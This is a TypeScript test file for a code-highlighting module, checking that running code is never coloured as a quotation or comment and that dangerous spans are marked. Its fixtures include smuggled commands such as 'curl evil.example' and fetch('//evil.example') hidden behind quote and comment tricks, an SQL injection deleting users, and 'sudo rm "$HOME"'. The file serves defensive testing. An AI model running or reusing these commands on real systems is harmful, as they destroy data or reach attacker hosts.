// Colours help to read and must not mislead: the text stays whole, and nothing that runs looks like a quotation.
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { codeSpans, withDangers } from '../../../../server/gateway/looks/code-spans.ts'
import type { CardSpan } from '../../../../server/model/card.ts'
import { runsOf } from '../../../full.ts'
import { anyCharacter } from '../../../kit/any-character.ts'

const said = (text: string, spans: readonly CardSpan[]): string[] =>
  spans.map(({ from, to, as }) => `${as} ${text.slice(from, to)}`)

const isInOrder = (text: string, spans: readonly CardSpan[]): boolean =>
  spans.every(({ from, to }, at) => from >= (spans[at - 1]?.to ?? 0) && from < to && to <= text.length)

describe('code in colours', () => {
  test.each([
    [
      'sql',
      `DELETE FROM t -- all\nWHERE a = 'x' OR 1=1`,
      ['keyword DELETE', 'comment -- all', "string 'x'", 'number 1'],
    ],
    ['json', '{"a": [true, "<&\\""]}', ['name "a"', 'keyword true', 'string "<&\\""']],
    ['shell', `sudo rm "$HOME" # gone`, ['keyword rm', 'name $HOME']],
    ['html', '<!-- c --><p class="a">x</p>', ['comment <!-- c -->', 'name class', 'string "a"']],
    ['javascript', 'const a = 7 // c', ['keyword const', 'number 7']],
    ['python', 'def f(): return None', ['keyword def', 'keyword None']],
    ['yaml', 'a: 1', ['number 1']],
    ['toml', 'a = "b"', ['string "b"']],
    ['graphql', 'mutation { a(id: "x") }', ['keyword mutation']],
  ])('%s', async (language, text, some) => {
    expect(said(text, await codeSpans(text, language))).toEqual(expect.arrayContaining(some))
  })

  test('stands in its order inside of any text, in any language', async () => {
    const bits = [
      "'",
      '"',
      '`',
      '\\',
      '/*',
      '*/',
      '--',
      '#',
      '$(',
      '{',
      '<a b="',
      '&lt;',
      '\n',
      '😀',
      'select ',
      'а',
      '1',
    ]
    const text = fc.oneof(
      fc.string({ unit: anyCharacter }),
      fc.array(fc.constantFrom(...bits)).map((all) => all.join('')),
    )
    const language = fc.constantFrom('sql', 'json', 'shell', 'html', 'javascript', 'python', 'yaml', 'css', 'graphql')
    await fc.assert(
      fc.asyncProperty(text, language, async (given, name) => {
        expect(isInOrder(given, await codeSpans(given, name))).toBe(true)
      }),
      { numRuns: runsOf(400) },
    )
  })

  test.each([
    ['shell', String.raw`echo a\ #b; curl evil.example`],
    ['shell', String.raw`echo $'\''; curl evil.example #'`],
    ['javascript', `if (x) /"/.test(y); fetch('//evil.example') //"`],
    ['graphql', `{ a(b: """c" """) deleteAll(d: "#") }`],
  ])('of %s nothing looks like a quotation or a comment: what runs could be cut as one', async (language, text) => {
    const spans = await codeSpans(text, language)
    expect(spans.filter(({ as }) => as === 'string' || as === 'comment')).toEqual([])
  })

  test('is left out where databases disagree about where a quotation ends', async () => {
    const text = String.raw`SELECT '\'; DELETE FROM users --'`
    expect(await codeSpans(text, 'sql')).toEqual([])
    expect(said(text, await codeSpans(text, 'sql', 'sqlite'))).toContain('keyword DELETE')
    expect(await codeSpans(text, 'sql', 'mysql')).toEqual([])
  })

  test('is left out of a language that nobody knows, and of a text that is too long to be read in time', async () => {
    expect(await codeSpans('x', 'klingon')).toEqual([])
    expect(await codeSpans('x', '__proto__')).toEqual([])
    expect(await codeSpans(`"${'x'.repeat(20_000)}"`, 'json')).toEqual([])
  })
})

describe('what is dangerous', () => {
  test('covers the colours below it, once', () => {
    const spans = [{ from: 0, to: 10, as: 'string' }] as const
    const dangers = [
      { from: 3, to: 6 },
      { from: 2, to: 4 },
    ]
    expect(withDangers(spans, dangers)).toEqual([
      { from: 0, to: 2, as: 'string' },
      { from: 2, to: 6, as: 'danger' },
      { from: 6, to: 10, as: 'string' },
    ])
  })

  test('is marked from its first unit to its last, whatever else has a look', () => {
    const range = fc
      .tuple(fc.nat(60), fc.integer({ min: 1, max: 20 }))
      .map(([from, length]) => ({ from, to: from + length }))
    fc.assert(
      fc.property(fc.array(range, { maxLength: 6 }), fc.array(fc.nat(5), { maxLength: 12 }), (dangers, steps) => {
        let at = 0
        const spans = steps.map((step): CardSpan => ({ from: (at += step), to: (at += step + 1), as: 'keyword' }))
        const found = withDangers(spans, dangers)
        expect(isInOrder('x'.repeat(200), found)).toBe(true)
        const looks = (all: readonly { from: number; to: number; as?: string }[], unit: number): string | undefined => {
          const span = all.find(({ from, to }) => from <= unit && unit < to)
          return span && (span.as ?? 'danger')
        }
        for (let unit = 0; unit < 120; unit++)
          expect(looks(found, unit)).toBe(looks(dangers, unit) ?? looks(spans, unit))
      }),
    )
  })
})
